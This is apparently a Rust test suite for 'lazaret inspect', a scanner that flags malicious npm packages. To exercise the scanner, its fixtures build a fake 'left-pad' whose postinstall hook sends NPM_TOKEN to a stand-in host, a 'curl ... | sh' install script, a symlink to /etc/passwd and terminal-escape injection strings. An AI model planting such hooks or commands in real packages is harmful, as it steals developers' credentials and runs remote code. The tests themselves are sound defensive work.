//! `lazaret inspect`.

use crate::harness::{Home, Said, malicious};
use insta::assert_snapshot;
use lazaret_testing::{Npm, archives, tarball};
use serde_json::Value;
use std::path::PathBuf;

/// Reads a token when it is installed, and sends it away.
const STEALER: &[(&str, &str)] = &[
    (
        "package/package.json",
        r#"{ "name": "left-pad", "version": "1.1.0", "scripts": { "postinstall": "node setup.js" } }"#,
    ),
    ("package/index.js", "module.exports = (text) => text;\n"),
    (
        "package/setup.js",
        "const https = require('https');\nhttps.get('https://collector.invalid/?t=' + process.env.NPM_TOKEN);\n",
    ),
];

const HARMLESS: &[(&str, &str)] = &[
    (
        "package/package.json",
        r#"{ "name": "left-pad", "version": "1.0.0" }"#,
    ),
    ("package/index.js", "module.exports = (text) => text;\n"),
];

fn packed(home: &Home, name: &str, files: &[(&str, &str)]) -> PathBuf {
    home.write(name, tarball(files.iter().copied()))
}

fn json(said: &Said) -> Value {
    assert_eq!(
        said.stdout.lines().count(),
        1,
        "{}\n{}",
        said.stdout,
        said.stderr
    );
    serde_json::from_str(&said.stdout).unwrap()
}

fn rules(document: &Value) -> Vec<&str> {
    let findings = document["findings"].as_array().unwrap();
    findings
        .iter()
        .map(|finding| finding["rule"].as_str().unwrap())
        .collect()
}

#[test]
fn a_package_that_does_nothing_is_clean() {
    let home = Home::new();
    packed(&home, "a.tgz", HARMLESS);
    let said = home.run(&["inspect", "a.tgz"]);
    assert_eq!(said.code, Some(0), "{}{}", said.stdout, said.stderr);
    assert_snapshot!(said.stdout);
    assert_eq!(said.stderr, "");
}

#[test]
fn every_format_says_what_a_thief_does() {
    let home = Home::new();
    packed(&home, "left-pad-1.1.0.tgz", STEALER);
    let human = home.run(&["inspect", "left-pad-1.1.0.tgz"]);
    assert_eq!(human.code, Some(1), "{}{}", human.stdout, human.stderr);
    assert_snapshot!("thief-human", human.stdout);
    let markdown = home.run(&["inspect", "left-pad-1.1.0.tgz", "--format", "markdown"]);
    assert_eq!(markdown.code, Some(1));
    assert_snapshot!("thief-markdown", markdown.stdout);

    let found = home.run(&["inspect", "left-pad-1.1.0.tgz", "--format", "json"]);
    assert_eq!(found.code, Some(1));
    let document = json(&found);
    assert_eq!(document["schema"], 1);
    assert_eq!(document["name"], "left-pad");
    assert_eq!(document["version"], "1.1.0");
    assert_ne!(document["outcome"], "allow");
    assert!(document["score"].is_u64());
    assert!(!document["reasons"].as_array().unwrap().is_empty());
    assert_eq!(document["inputs"][0]["input"], "left-pad-1.1.0.tgz");
    let integrity = document["inputs"][0]["integrity"].as_str().unwrap();
    assert_eq!(
        integrity,
        lazaret_testing::sha512_integrity(&tarball(STEALER.iter().copied()))
    );
    assert!(
        rules(&document).contains(&"credential-exfiltration"),
        "{:?}",
        rules(&document)
    );
}

#[test]
fn json_is_the_same_byte_for_byte_wherever_it_is_made() {
    let run = || {
        let home = Home::new();
        packed(&home, "a.tgz", STEALER);
        home.run(&["inspect", "--format", "json", "a.tgz", "a.tgz"])
            .stdout
    };
    let first = run();
    assert_eq!(first.lines().count(), 2);
    assert_eq!(first.lines().next(), first.lines().nth(1));
    assert_eq!(first, run());
}

#[test]
fn a_folder_is_read_without_links_and_other_peoples_packages() {
    let home = Home::new();
    for (path, text) in STEALER {
        home.write(&path.replacen("package/", "mine/", 1), text);
    }
    home.write(
        "mine/node_modules/other/index.js",
        "require('child_process').exec('id')",
    );
    std::os::unix::fs::symlink("/etc/passwd", home.path().join("mine/link")).unwrap();
    let document = json(&home.run(&["inspect", "mine", "--format", "json"]));
    assert_eq!(document["inputs"][0]["input"], "mine");
    assert_eq!(
        document["inputs"][0]["left_out"],
        serde_json::json!(["link (a link)", "node_modules"])
    );
    assert_eq!(document["files"]["count"], 3);
    assert!(rules(&document).contains(&"credential-exfiltration"));

    // As the tarball of the same files, but for what tells them apart.
    packed(&home, "a.tgz", STEALER);
    let mut packed = json(&home.run(&["inspect", "a.tgz", "--format", "json"]));
    packed["inputs"] = document["inputs"].clone();
    assert_eq!(packed, document);
}

#[test]
fn what_is_no_package_is_not_clean() {
    let home = Home::new();
    home.write("text.tgz", "not an archive");
    home.write("empty/readme.md", "nothing");
    home.write("outer/package/package.json", "{}");
    let said = home.run(&["inspect", "text.tgz", "--format", "json"]);
    assert_eq!(said.code, Some(3));
    assert_eq!(json(&said)["outcome"], "quarantine");
    assert!(
        said.stderr.starts_with("error: text.tgz is no package"),
        "{}",
        said.stderr
    );

    let said = home.run(&["inspect", "empty"]);
    assert_eq!(said.code, Some(3));
    assert_snapshot!(said.stderr, @"error: empty is no package: it has no package.json");
    let said = home.run(&["inspect", "outer"]);
    assert_snapshot!(said.stderr, @"error: outer is no package: it has no package.json; did you mean outer/package?");

    let said = home.run(&["inspect", "nowhere.tgz"]);
    assert_eq!(said.code, Some(2));
    assert_snapshot!(said.stderr, @"error: there is no nowhere.tgz: name a tarball, a folder with a package.json, or a version such as chalk@5.6.1");
}

#[test]
fn the_threshold_decides_what_a_finding_is() {
    let home = Home::new();
    packed(&home, "thief.tgz", STEALER);
    packed(&home, "clean.tgz", HARMLESS);
    let code =
        |name: &str, threshold: &str| home.run(&["inspect", name, "--threshold", threshold]).code;
    assert_eq!(code("thief.tgz", "note"), Some(1));
    assert_eq!(code("thief.tgz", "quarantine"), Some(1));
    assert_eq!(code("clean.tgz", "note"), Some(0));
    // By itself, without a version before it, nothing blocks.
    let outcome = json(&home.run(&["inspect", "thief.tgz", "--format", "json"]))["outcome"].clone();
    let expected = if outcome == "block" { 1 } else { 0 };
    assert_eq!(code("thief.tgz", "block"), Some(expected));
}

#[test]
fn a_file_on_which_the_worker_fails_is_named_and_the_package_held() {
    let home = Home::new();
    let deep = format!("x = {}1;", "!".repeat(9_000_000));
    let files = [
        (
            "package/package.json",
            r#"{ "name": "deep", "version": "1.0.0" }"#,
        ),
        ("package/a.js", "a();"),
        ("package/index.js", &deep),
    ];
    packed(&home, "deep.tgz", &files);
    packed(&home, "clean.tgz", HARMLESS);
    let said = home.run(&[
        "inspect",
        "deep.tgz",
        "clean.tgz",
        "--format",
        "json",
        "--jobs",
        "1",
    ]);
    assert_eq!(said.code, Some(4), "{}", said.stderr);
    let documents: Vec<Value> = said
        .stdout
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect();
    assert_eq!(documents[0]["outcome"], "quarantine");
    assert_eq!(documents[0]["incomplete"][0]["file"], "index.js");
    // The next package gets its answer.
    assert_eq!(documents[1]["outcome"], "allow");
}

#[test]
fn time_is_bounded_and_what_takes_too_long_is_held() {
    let home = Home::new();
    let long: String = (0..400_000)
        .map(|index| format!("f{index}(a+{index},b.c);\n"))
        .collect();
    let files = [
        (
            "package/package.json",
            r#"{ "name": "long", "version": "1.0.0" }"#,
        ),
        ("package/lib/long.js", &long),
    ];
    packed(&home, "long.tgz", &files);
    let said = home.run(&[
        "inspect",
        "long.tgz",
        "--format",
        "json",
        "--time-limit",
        "0.5",
    ]);
    assert_eq!(said.code, Some(4), "{}{}", said.stdout, said.stderr);
    let document = json(&said);
    assert_eq!(document["incomplete"][0]["file"], "lib/long.js");
    assert_snapshot!(document["incomplete"][0]["why"].as_str().unwrap(), @"0.5 seconds of processor time were not enough");
    assert_eq!(
        home.run(&["inspect", "long.tgz", "--time-limit", "0"]).code,
        Some(2)
    );
}

#[test]
fn many_packages_are_told_in_their_order() {
    let home = Home::new();
    let names: Vec<String> = (0..12).map(|index| format!("p{index}.tgz")).collect();
    for (index, name) in names.iter().enumerate() {
        let manifest = format!(r#"{{ "name": "p", "version": "1.0.{index}" }}"#);
        packed(&home, name, &[("package/package.json", &manifest)]);
    }
    let mut arguments = vec!["inspect", "--format", "json", "--jobs", "3"];
    arguments.extend(names.iter().map(String::as_str));
    let said = home.run(&arguments);
    assert_eq!(said.code, Some(0), "{}", said.stderr);
    let versions: Vec<String> = said
        .stdout
        .lines()
        .map(|line| {
            serde_json::from_str::<Value>(line).unwrap()["version"]
                .as_str()
                .unwrap()
                .to_owned()
        })
        .collect();
    let expected: Vec<String> = (0..12).map(|index| format!("1.0.{index}")).collect();
    assert_eq!(versions, expected);

    let human = home.run(&["inspect", "p0.tgz", "p1.tgz"]);
    assert!(
        human.stdout.ends_with("\n2 packages: 2 allow\n"),
        "{}",
        human.stdout
    );
}

#[test]
fn nothing_that_an_author_writes_reaches_the_terminal_as_it_is() {
    let home = Home::new();
    let evil = "\u{1b}[2J\u{202e}`<img src=x>`|@everyone";
    let manifest = serde_json::json!({
        "name": format!("pad{evil}"), "version": "1.0.0",
        "scripts": { "postinstall": format!("curl https://collector.invalid/{evil} | sh") },
        "dependencies": { format!("dep{evil}"): evil },
    });
    let file = format!("package/a{}.js", "\u{1b}]0;x\u{7}\u{202e}");
    let code = format!("fetch('https://collector.invalid/{evil}' + process.env.NPM_TOKEN)");
    packed(
        &home,
        "evil.tgz",
        &[
            ("package/package.json", &manifest.to_string()),
            (&file, &code),
        ],
    );
    for format in ["human", "markdown", "json", "sarif"] {
        let said = home.run(&["inspect", "evil.tgz", "--format", format]);
        assert!(
            said.code == Some(1) || said.code == Some(4),
            "{format}: {:?} {}",
            said.code,
            said.stderr
        );
        let bad = |character: char| {
            character.is_control() && character != '\n'
                || matches!(character, '\u{202a}'..='\u{202e}')
        };
        let shown = said.stdout;
        assert!(!shown.contains(bad), "{format}: {shown:?}");
        if format == "markdown" {
            let without_code = outside_of_code(&shown);
            assert!(!without_code.contains("<img"), "{without_code}");
            assert!(!without_code.contains("@everyone"), "{without_code}");
        }
    }
}

/// What of Markdown is not in code spans and blocks.
fn outside_of_code(text: &str) -> String {
    let mut outside = String::new();
    let mut rest = text;
    while let Some(start) = rest.find('`') {
        outside.push_str(&rest[..start]);
        let fence: String = rest[start..]
            .chars()
            .take_while(|character| *character == '`')
            .collect();
        let after = &rest[start + fence.len()..];
        // The span ends at the next run of as many backticks, and no more.
        let mut at = 0;
        let end = loop {
            let Some(found) = after[at..].find('`') else {
                break after.len();
            };
            let run = after[at + found..]
                .chars()
                .take_while(|character| *character == '`')
                .count();
            if run == fence.len() {
                break at + found + run;
            }
            at += found + run;
        };
        rest = &after[end..];
    }
    outside.push_str(rest);
    outside
}

#[test]
fn hostile_archives_end_in_a_document() {
    let home = Home::new();
    let cases: Vec<_> = archives::cases().into_iter().collect();
    let names: Vec<String> = cases
        .iter()
        .map(|case| format!("{}.tgz", case.name))
        .collect();
    for (case, name) in cases.iter().zip(&names) {
        home.write(name, &case.bytes);
    }
    let mut arguments = vec!["inspect", "--format", "json"];
    arguments.extend(names.iter().map(String::as_str));
    let said = home.run(&arguments);
    assert!(said.code.is_some(), "{}", said.stderr);
    assert_eq!(said.stdout.lines().count(), names.len(), "{}", said.stderr);
    for (line, name) in said.stdout.lines().zip(&names) {
        let document: Value = serde_json::from_str(line).unwrap();
        assert_eq!(document["inputs"][0]["input"].as_str(), Some(name.as_str()));
        let outcome = document["outcome"].as_str().unwrap();
        let irregular = !document["archive"].as_array().unwrap().is_empty();
        if irregular {
            assert!(
                matches!(outcome, "quarantine" | "block"),
                "{name}: {outcome}"
            );
        }
    }
}

#[test]
fn a_version_is_taken_from_the_registry_and_verified() {
    let npm = Npm::new()
        .package("left-pad", |package| {
            package
                .version("1.0.0", |release| {
                    release.file("index.js", "module.exports = 1;")
                })
                .version("1.1.0", |release| {
                    release
                        .script("postinstall", "node setup.js")
                        .dependency("fresh", "^1.0.0")
                        .file("setup.js", STEALER[2].1)
                })
        })
        .package("fresh", |package| {
            package.version("1.0.0", |release| release.published("2024-01-01T20:00:00Z"))
        })
        .start_blocking();
    let home = Home::new();
    let url = npm.url();
    let said = home.run(&[
        "inspect",
        "left-pad@1.1.0",
        "--format",
        "json",
        "--upstream",
        &url,
    ]);
    let document = json(&said);
    assert_eq!(said.code, Some(1), "{}", said.stderr);
    assert_eq!(document["inputs"][0]["input"], "left-pad@1.1.0");
    assert_eq!(
        document["inputs"][0]["integrity"],
        npm.integrity("left-pad", "1.1.0")
    );
    // What is new next to the version before is asked for, too.
    assert_eq!(npm.requests_to("/fresh").len(), 1);

    let missing = home.run(&["inspect", "left-pad@9.9.9", "--upstream", &url]);
    assert_eq!(missing.code, Some(3));
    assert_snapshot!(missing.stderr.replace(&url, "[npm]/"), @"error: [npm]/ has no left-pad@9.9.9");
    let unknown = home.run(&["inspect", "nobody@1.0.0", "--upstream", &url]);
    assert_eq!(unknown.code, Some(3));

    npm.tamper("left-pad", "1.0.0", tarball(STEALER.iter().copied()));
    let tampered = home.run(&[
        "inspect",
        "left-pad@1.0.0",
        "--upstream",
        &url,
        "--format",
        "json",
    ]);
    assert_eq!(tampered.code, Some(4));
    assert_eq!(json(&tampered)["outcome"], "quarantine");

    npm.offline();
    let away = home.run(&[
        "inspect",
        "left-pad@1.1.0",
        "--upstream",
        &url,
        "--format",
        "json",
    ]);
    assert_eq!(away.code, Some(4));
    assert_eq!(json(&away)["outcome"], "quarantine");
}

#[test]
fn nobody_is_asked_offline_or_about_internal_names() {
    let npm = Npm::new()
        .package("@mine/tool", |package| {
            package.version("1.0.0", |release| release)
        })
        .start_blocking();
    let home = Home::new();
    let said = home.run(&[
        "inspect",
        "@mine/tool@1.0.0",
        "--offline",
        "--upstream",
        &npm.url(),
    ]);
    assert_eq!(said.code, Some(2));
    assert_snapshot!(said.stderr, @"error: --offline: versions are the registry's; name a tarball or a folder");

    home.write("lazaret.toml", "[policy]\ninternal = [\"@mine/*\"]\n");
    let said = home.run(&["inspect", "@mine/tool@1.0.0", "--upstream", &npm.url()]);
    assert_eq!(said.code, Some(4));
    assert_eq!(npm.requests().len(), 0);
    // A mirror is ours.
    let said = home.run(&["inspect", "@mine/tool@1.0.0", "--server", &npm.url()]);
    assert_eq!(said.code, Some(0), "{}{}", said.stdout, said.stderr);
}

#[test]
fn an_advisory_against_the_version_is_the_worst_there_is() {
    let home = Home::new();
    packed(&home, "a.tgz", HARMLESS);
    let record = home.write(
        "MAL-2026-1.json",
        malicious("MAL-2026-1", "left-pad", &["1.0.0"]),
    );
    let imported = home.run(&[
        "advisories",
        "import",
        record.to_str().unwrap(),
        "--data",
        "data",
    ]);
    assert_eq!(imported.code, Some(0), "{}", imported.stderr);
    assert_eq!(home.run(&["inspect", "a.tgz"]).code, Some(0));
    let said = home.run(&["inspect", "a.tgz", "--data", "data", "--format", "json"]);
    assert_eq!(said.code, Some(5), "{}{}", said.stdout, said.stderr);
    let document = json(&said);
    assert_eq!(document["outcome"], "block");
    assert!(
        document["reasons"][0]
            .as_str()
            .unwrap()
            .starts_with("malicious: reported as malicious by MAL-2026-1")
    );
    let sarif = home.run(&["inspect", "a.tgz", "--data", "data", "--format", "sarif"]);
    assert!(
        sarif.stdout.contains("\"ruleId\": \"malicious\""),
        "{}",
        sarif.stdout
    );
}

#[test]
fn facts_of_a_registry_can_be_given() {
    let home = Home::new();
    packed(&home, "a.tgz", HARMLESS);
    home.write(
        "facts.json",
        r#"{ "publisher_before": "one", "publisher_after": "two" }"#,
    );
    home.write("wrong.json", r#"{ "publisher": "one" }"#);
    let facts = |name: &str| {
        home.run(&[
            "inspect",
            "a.tgz",
            "--format",
            "json",
            "--registry-facts",
            name,
        ])
    };
    let document = json(&facts("facts.json"));
    assert!(
        rules(&document).contains(&"publisher-changed"),
        "{:?}",
        rules(&document)
    );
    let wrong = facts("wrong.json");
    assert_eq!(wrong.code, Some(2), "{}", wrong.stderr);
    let several = home.run(&[
        "inspect",
        "a.tgz",
        "a.tgz",
        "--registry-facts",
        "facts.json",
    ]);
    assert_eq!(several.code, Some(2));
}

#[test]
fn the_layers_of_the_sandbox_are_told_to_who_asks() {
    let home = Home::new();
    packed(&home, "a.tgz", HARMLESS);
    let plain = json(&home.run(&["inspect", "a.tgz", "--format", "json"]));
    assert!(plain["sandbox"].is_null());
    let asked = json(&home.run(&["inspect", "a.tgz", "--format", "json", "--layers"]));
    let layers = asked["sandbox"].as_array().unwrap();
    let names: Vec<&str> = layers
        .iter()
        .filter_map(|layer| layer.as_str()?.split(' ').next())
        .collect();
    for layer in ["environment", "landlock", "seccomp", "limits"] {
        assert!(names.contains(&layer), "{layer} in {names:?}");
    }
}

#[test]
fn a_worker_of_nobody_ends_by_itself() {
    // Somebody tries it by hand.
    let said = Home::new().run(&["inspect-worker"]);
    assert_eq!(said.stdout, "");
    assert!(said.stderr.contains("lazaret inspect"), "{}", said.stderr);
    assert_eq!(said.code, Some(2));
}
